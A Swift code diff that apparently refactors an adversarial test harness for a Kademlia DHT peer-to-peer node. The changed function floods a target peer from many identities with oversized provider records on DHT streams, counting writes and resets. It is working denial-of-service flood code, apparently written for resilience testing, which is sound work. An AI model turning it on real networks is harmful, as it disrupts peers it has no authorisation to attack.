@@ -24,34 +24,28 @@ extension Attack {
         let resets = AttackCounter()
         let topicKey = ContentKey.topic(options.topic)
         let end = self.end
-        await withTaskGroup(of: Void.self) { tasks in
-            for index in 0..<identities {
-                let source = options.source(index % 8)
-                tasks.addTask {
-                    guard let host = try? await attacker(from: source) else { return }
-                    guard (try? await host.connect(address)) != nil else { return await host.close() }
-                    var stream: MuxedStream?
-                    var key = topicKey
-                    var number = 0
-                    while ContinuousClock.now < end, sent.value < maxRecords {
-                        if stream == nil {
-                            stream = try? await host.newStream(to: peer, protocols: [KadDHT.protocolID])
-                            if stream == nil { break }  // no kad, or the connection is gone
-                        }
-                        do {
-                            try await stream!.write(HostileFrames.largeProviderRecord(peer: host.localPeer, key: key))
-                            sent.add()
-                        } catch {
-                            resets.add()
-                            stream = nil
-                        }
-                        number += 1
-                        key = ContentKey.topic("attack-\(index)-\(number)")
-                    }
-                    stream?.reset()
-                    await host.close()
+        await withIdentities(identities, from: 8) { index, host in
+            guard (try? await host.connect(address)) != nil else { return await host.close() }
+            var stream: MuxedStream?
+            var key = topicKey
+            var number = 0
+            while ContinuousClock.now < end, sent.value < maxRecords {
+                if stream == nil {
+                    stream = try? await host.newStream(to: peer, protocols: [KadDHT.protocolID])
+                    if stream == nil { break }  // no kad, or the connection is gone
                 }
+                do {
+                    try await stream!.write(HostileFrames.largeProviderRecord(peer: host.localPeer, key: key))
+                    sent.add()
+                } catch {
+                    resets.add()
+                    stream = nil
+                }
+                number += 1
+                key = ContentKey.topic("attack-\(index)-\(number)")
             }
+            stream?.reset()
+            await host.close()
         }
         while running { await pause(.seconds(1)) }
         return "\(identities) peer ids from 8 addresses wrote \(sent.value) provider records of 16 addresses of 246 bytes "
